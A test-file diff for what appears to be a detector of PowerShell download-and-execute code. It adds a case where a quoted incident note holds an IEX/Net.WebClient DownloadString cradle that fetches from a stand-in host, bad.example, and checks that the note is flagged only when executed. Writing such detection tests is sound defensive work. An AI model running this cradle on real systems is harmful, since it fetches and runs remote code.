@@ -180,6 +180,12 @@ describe('strings that only mention execution', () => {
       'download_execute',
     );
   });
+  it('treats a variable holding a quoted note about a cradle as data when it is only written out', () => {
+    const note = "$note = @'\nIncident 4411: attacker ran\n  IEX (New-Object Net.WebClient).DownloadString('http://bad.example/a')\n'@\n";
+    expect(codes(note + 'Add-Content -Path C:\\ProgramData\\MSP\\notes.txt -Value $note', 'powershell')).not.toContain('download_execute');
+    expect(codes(note + 'Invoke-Expression $note', 'powershell')).toContain('download_execute');
+    expect(codes(note + '& ([scriptblock]::Create($note))', 'powershell')).toContain('download_execute');
+  });
 });
 
 describe('variants beyond the basic forms', () => {
